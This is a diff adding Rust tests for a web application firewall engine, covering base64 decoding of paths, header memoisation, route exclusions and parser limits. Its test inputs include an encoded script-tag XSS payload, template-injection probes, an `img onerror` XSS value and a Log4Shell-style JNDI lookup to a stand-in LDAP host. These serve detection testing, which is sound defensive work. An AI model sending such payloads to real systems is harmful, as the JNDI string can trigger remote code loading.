@@ -575,3 +575,113 @@ fn pathological_values_are_handled() {
         assert!(f.findings.len() <= 32, "{unit}");
     }
 }
+
+fn get_findings(
+    e: &WafEngine,
+    route: &str,
+    uri: &str,
+    headers: &[(&str, &str)],
+) -> Vec<(Attack, String)> {
+    let p = parts("GET", uri, headers);
+    attacks(&e.inspect_headers(route, &RequestView::from_parts(&p)))
+}
+
+#[test]
+fn base64_payloads_in_the_path_are_decoded() {
+    let e = engine(&WafConfig::default());
+    // `???<script>...`: the `/` of the encoding splits it into segments, the
+    // payload's one without a trigger byte
+    let split = "/Pz8/PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg";
+    // unpadded base64 has no `+`/`=`: no trigger byte in the segment
+    let flat = "/e3sxMzM3KjEzMzh9fSB7ezcqN319IHt7Y29uZmlnLml0ZW1zKCl9fQ";
+    for uri in [split, flat] {
+        let f = get_findings(&e, "r", uri, &[]);
+        assert!(f.iter().any(|(_, loc)| loc == "path"), "{uri}: {f:?}");
+    }
+    // false-positive guards: ids, hashes and base64 of ordinary text in paths
+    for uri in [
+        "/api/v1/Users/AbCdEf12GhIjKl34/Orders/XyZ987",
+        "/assets/3f9aB7c2/d4e8F1a0b2c3d4e5f6a7b8c9/app.js",
+        "/node/VXNlcjoxMjM0NQ/edit",
+        "/files/SGVsbG8gd29ybGQsIHRoaXMgaXMgYSBub3JtYWwgbm90ZQ",
+        "/videos/dQw4w9WgXcQ/comments/UgzAbCdEfGhIjKlMn",
+    ] {
+        let f = get_findings(&e, "r", uri, &[]);
+        assert!(f.is_empty(), "{uri}: {f:?}");
+    }
+}
+
+#[test]
+fn repeated_header_values_give_identical_findings() {
+    let ua = (
+        "user-agent",
+        "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
+    );
+    let e = engine(&WafConfig::default());
+    for _ in 0..3 {
+        assert!(get_findings(&e, "r", "/", &[ua]).is_empty());
+    }
+    // an attack value is never memoised as clean
+    let bad = ("user-agent", "Mozilla/5.0 ${jndi:ldap://x.example/a}");
+    for _ in 0..3 {
+        assert_eq!(
+            get_findings(&e, "r", "/", &[bad]),
+            vec![(Attack::Jndi, "header:user-agent".to_string())]
+        );
+    }
+
+    // an exclusion on one route does not make a value clean for another route
+    let cfg = WafConfig {
+        exclusions: vec![WafExclusion {
+            route: Some("cms".into()),
+            location: Some("header:x-html".into()),
+            detector: Some("xss".into()),
+        }],
+        ..Default::default()
+    };
+    let e = engine(&cfg);
+    let h = ("x-html", "<img src=x onerror=alert(1)>");
+    assert!(get_findings(&e, "cms", "/", &[h]).is_empty());
+    assert_eq!(
+        get_findings(&e, "api", "/", &[h]),
+        vec![(Attack::Xss, "header:x-html".to_string())]
+    );
+
+    // the memo is per engine: a value clean under one configuration still hits
+    // another engine's limit
+    let nested = ("x-data", r#"{"a":{"b":{"c":{"d":"e"}}}}"#);
+    let roomy = engine(&WafConfig::default());
+    let p = parts("GET", "/", &[nested]);
+    assert!(roomy
+        .inspect_headers("r", &RequestView::from_parts(&p))
+        .limits
+        .is_empty());
+    let mut tight = WafConfig::default();
+    tight.limits.max_json_depth = 2;
+    let tight = engine(&tight);
+    for _ in 0..2 {
+        let f = tight.inspect_headers("r", &RequestView::from_parts(&p));
+        assert_eq!(f.limits.len(), 1, "{f:?}");
+    }
+
+    // memoised values still count towards max_params (the path is the first value)
+    let mut few = WafConfig::default();
+    few.limits.max_params = 2;
+    let few = engine(&few);
+    let hs = [
+        ("accept", "text/html"),
+        ("accept-language", "en-US,en;q=0.9"),
+        ("accept-encoding", "gzip, deflate"),
+    ];
+    let p = parts("GET", "/", &hs);
+    for _ in 0..3 {
+        let f = few.inspect_headers("r", &RequestView::from_parts(&p));
+        assert_eq!(
+            f.limits,
+            vec![(
+                "max_params".to_string(),
+                "header:accept-language".to_string()
+            )]
+        );
+    }
+}
